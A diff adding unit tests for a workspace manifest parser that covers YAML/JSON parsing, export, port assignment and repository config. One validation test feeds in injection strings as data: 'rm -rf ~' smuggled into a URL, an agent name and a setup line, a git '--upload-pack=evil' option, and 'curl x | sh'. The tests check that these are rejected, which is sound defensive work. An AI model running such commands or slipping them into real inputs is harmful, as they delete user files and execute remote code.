@@ -0,0 +1,209 @@
+/**
+ * Unit tests for workspace manifests
+ * Tests parsing and validation, export from a workspace, applying commands on import
+ * and repository-level agentsos.yaml files
+ */
+
+import { describe, it, expect } from 'vitest';
+import type { UserWorkspace } from '@/types/workspace';
+import { PortManager } from '../port-manager';
+import {
+  WorkspaceManifestError,
+  applyCommands,
+  applyManifestCommands,
+  createManifest,
+  getManifestRepositories,
+  getRepositoryNameFromUrl,
+  parseManifest,
+  parseRepositoryConfig,
+  serializeManifest
+} from '../workspace-manifest';
+
+const manifestYaml = `
+version: 1
+name: Payments team
+resourceProfile: large
+image: python
+agents: [claude]
+vscode:
+  theme: dark
+  extensions: [esbenp.prettier-vscode]
+repositories:
+  - url: https://github.com/acme/api.git
+    branch: develop
+    commands:
+      - name: Dev server
+        command: npm run dev
+        icon: 🚀
+    env: [DATABASE_URL, STRIPE_KEY]
+  - url: https://github.com/acme/web
+    name: frontend
+`;
+
+const workspace = {
+  id: 'workspace-1',
+  sandboxId: 'sandbox-1',
+  name: 'Payments team',
+  resourceProfile: 'custom',
+  resources: { cpu: 2, memory: 4, disk: 10 },
+  image: 'node',
+  repositories: [
+    { ...PortManager.createDefaultRepository(), id: 'repo-0000000000000-0' },
+    {
+      id: 'repo-1',
+      url: 'https://github.com/acme/api.git',
+      name: 'api',
+      sourceType: 'github',
+      ports: PortManager.getPortsForSlot(1),
+      serviceUrls: { vscode: 'https://8081-sandbox-1.proxy.daytona.work' },
+      customTerminals: [{ id: 'dev-server', name: 'Dev server', command: 'npm run dev', port: 7000 }]
+    }
+  ],
+  status: 'running',
+  createdAt: new Date(),
+  updatedAt: new Date()
+} as unknown as UserWorkspace;
+
+describe('workspace manifest', () => {
+  describe('parseManifest', () => {
+    it('should parse a YAML manifest and default repository names from their URLs', () => {
+      const manifest = parseManifest(manifestYaml);
+
+      expect(manifest).toMatchObject({
+        version: 1,
+        name: 'Payments team',
+        resourceProfile: 'large',
+        image: 'python',
+        agents: ['claude'],
+        vscode: { theme: 'dark', extensions: ['esbenp.prettier-vscode'] }
+      });
+      expect(manifest.repositories).toEqual([
+        {
+          url: 'https://github.com/acme/api.git',
+          name: 'api',
+          branch: 'develop',
+          commands: [{ name: 'Dev server', command: 'npm run dev', icon: '🚀' }],
+          env: ['DATABASE_URL', 'STRIPE_KEY']
+        },
+        { url: 'https://github.com/acme/web', name: 'frontend' }
+      ]);
+    });
+
+    it('should parse JSON manifests', () => {
+      expect(parseManifest('{"repositories": [{"url": "https://github.com/acme/api"}]}').repositories[0].name).toBe('api');
+    });
+
+    it('should reject manifests that could run arbitrary commands or are not supported', () => {
+      const invalid = (content: string) => expect(() => parseManifest(content)).toThrow(WorkspaceManifestError);
+
+      invalid('repositories: [{ url: \'https://github.com/acme/api"; rm -rf ~; "\' }]');
+      invalid('repositories: [{ url: https://github.com/acme/api, branch: --upload-pack=evil }]');
+      invalid('vscode: { extensions: [\'evil; curl x | sh\'] }');
+      invalid('repositories: [{ url: https://github.com/acme/api, env: [\'NOT VALID\'] }]');
+      invalid('agents: [copilot]');
+      invalid('agents: [\'claude; rm -rf ~\']');
+      invalid('resourceProfile: huge');
+      invalid('version: 2');
+      invalid('repositories: [{ url: https://github.com/a/api }, { url: https://github.com/b/api }]');
+      invalid('repositories: [ {');
+    });
+  });
+
+  it('should export repositories, commands, branches and env var names', () => {
+    const manifest = createManifest(workspace, {
+      branches: { api: 'main' },
+      envKeys: { api: ['STRIPE_KEY', 'DATABASE_URL'], 'other-project': ['TOKEN'] },
+      vscode: { theme: 'light' }
+    });
+
+    expect(manifest).toEqual({
+      version: 1,
+      name: 'Payments team',
+      resourceProfile: 'custom',
+      resources: { cpu: 2, memory: 4, disk: 10 },
+      image: 'node',
+      agents: ['claude', 'gemini'],
+      vscode: { theme: 'light' },
+      repositories: [{
+        url: 'https://github.com/acme/api.git',
+        name: 'api',
+        branch: 'main',
+        commands: [{ name: 'Dev server', command: 'npm run dev' }],
+        env: ['DATABASE_URL', 'STRIPE_KEY']
+      }]
+    });
+    expect(parseManifest(serializeManifest(manifest))).toEqual(manifest);
+    expect(parseManifest(serializeManifest(manifest, 'json'))).toEqual(manifest);
+  });
+
+  it('should export only the agents enabled in the workspace', () => {
+    expect(createManifest({ ...workspace, agents: ['gemini'] }).agents).toEqual(['gemini']);
+    expect(parseManifest('agents: [gemini, gemini]').agents).toEqual(['gemini']);
+  });
+
+  it('should add commands as custom terminals on ports nobody uses', () => {
+    const manifest = parseManifest(manifestYaml);
+    const repositories = getManifestRepositories(manifest, 1000);
+
+    expect(repositories.map(({ name, branch, ports }) => ({ name, branch, ports }))).toEqual([
+      { name: 'api', branch: 'develop', ports: PortManager.getPortsForSlot(0) },
+      { name: 'frontend', branch: undefined, ports: PortManager.getPortsForSlot(1) }
+    ]);
+
+    const [api, frontend] = applyManifestCommands(manifest, repositories);
+    expect(api.customTerminals).toEqual([
+      { id: 'dev-server', name: 'Dev server', command: 'npm run dev', icon: '🚀', port: expect.any(Number) }
+    ]);
+    expect(PortManager.getAssignedPorts(repositories).has(api.customTerminals![0].port)).toBe(false);
+    expect(frontend.customTerminals).toBeUndefined();
+  });
+
+  describe('parseRepositoryConfig', () => {
+    it('should read setup, commands, env, agents and extensions', () => {
+      const config = parseRepositoryConfig(`
+setup: ['npm ci', ' npx prisma generate ']
+commands:
+  - name: Dev server
+    command: npm run dev
+    port: 3000
+env: [DATABASE_URL]
+agents: [claude]
+vscode:
+  extensions: [prisma.prisma]
+repositories: []
+`);
+
+      expect(config).toEqual({
+        setup: ['npm ci', 'npx prisma generate'],
+        commands: [{ name: 'Dev server', command: 'npm run dev', port: 3000 }],
+        env: ['DATABASE_URL'],
+        agents: ['claude'],
+        extensions: ['prisma.prisma']
+      });
+    });
+
+    it('should reject multi-line setup commands and invalid dev server ports', () => {
+      expect(() => parseRepositoryConfig('setup: ["npm ci\\nrm -rf ~"]')).toThrow(WorkspaceManifestError);
+      expect(() => parseRepositoryConfig('commands: [{ name: Dev, command: npm run dev, port: 70000 }]')).toThrow('port');
+      expect(parseRepositoryConfig('{}')).toEqual({ setup: [], commands: [], env: [], agents: [], extensions: [] });
+    });
+
+    it('should reject recommended agents that are not registered', () => {
+      expect(() => parseRepositoryConfig('agents: [claude, copilot]')).toThrow('agent copilot is not available, expected claude, gemini');
+    });
+  });
+
+  it('should keep the dev server port of repository commands for previews', () => {
+    const [repository] = applyCommands([workspace.repositories[1]], {
+      api: [{ name: 'Storybook', command: 'npm run storybook', port: 6006 }]
+    });
+
+    expect(repository.customTerminals).toHaveLength(2);
+    expect(repository.customTerminals![1]).toMatchObject({ name: 'Storybook', previewPort: 6006 });
+  });
+
+  it('should name repositories after the last URL segment', () => {
+    expect(getRepositoryNameFromUrl('git@github.com:acme/api.git')).toBe('api');
+    expect(getRepositoryNameFromUrl('https://github.com/acme/web/')).toBe('web');
+  });
+});